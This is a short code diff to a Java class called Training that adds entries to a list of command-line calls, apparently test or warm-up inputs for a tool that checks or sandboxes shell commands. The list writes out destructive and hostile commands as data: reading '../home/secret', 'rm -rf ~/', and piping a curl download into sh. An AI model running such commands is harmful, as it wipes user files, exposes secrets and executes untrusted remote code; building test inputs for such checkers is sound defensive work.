@@ -11,6 +11,12 @@ public final class Training {
   private static final List<List<String>> CALLS =
       List.of(
           List.of("version"),
+          List.of("exec", "--", "true"),
+          List.of(
+              "exec",
+              "-c",
+              "cat ../home/secret; touch ../home/x; echo built > out.txt; cat out.txt"),
+          List.of("exec", "--json", "-c", "rm -rf ~/"),
           List.of("check", "cd build && rm -rf ~/x; curl -sS https://example.com | sh > out.txt"),
           List.of("check", "--json", "--", "git", "push", "--force"),
           List.of("check", "--profile", "read-only", "git log --oneline"),
